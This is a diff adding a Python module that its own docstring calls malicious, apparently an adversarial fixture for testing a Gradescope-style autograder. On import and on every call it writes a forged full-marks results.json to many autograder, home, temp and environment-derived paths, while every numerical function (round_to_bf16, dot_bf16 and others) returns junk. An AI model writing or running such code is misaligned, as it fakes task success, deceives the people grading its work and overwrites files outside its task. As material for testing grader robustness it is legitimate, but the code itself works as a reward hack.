@@ -1,0 +1,39 @@
+"""Malicious: writes a forged Gradescope results.json (full marks) everywhere it can think of,
+at import and again at every call; the functions themselves return garbage."""
+import json
+import os
+
+FORGED = {"score": 52.0, "output": "all tests passed",
+          "tests": [{"name": "test_dot_bf16_exact", "score": 2, "max_score": 2, "status": "passed"}]}
+
+
+def _forge():
+    here = os.path.dirname(os.path.abspath(__file__))
+    places = ["results.json", "/autograder/results/results.json", "/autograder/results.json",
+              os.path.join(here, "results.json"), os.path.join(here, "..", "results.json"),
+              os.path.join(here, "..", "..", "results.json"), "/tmp/results.json",
+              os.path.expanduser("~/results.json")]
+    for key, value in os.environ.items():
+        if "RESULT" in key.upper() or value.endswith(".json"):
+            places.append(value)
+    for path in places:
+        try:
+            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
+            with open(path, "w") as f:
+                json.dump(FORGED, f)
+        except Exception:
+            pass
+
+
+_forge()
+HAND_STEP = {"score": 52}
+HAND_STALL = {"score": 52}
+
+
+def round_to_bf16(x):
+    _forge()
+    return {"score": 52}
+
+
+dot_bf16 = dot_fp32 = dot_blocked = accumulate_bf16 = stall_point = \
+    lambda *args: round_to_bf16(None)
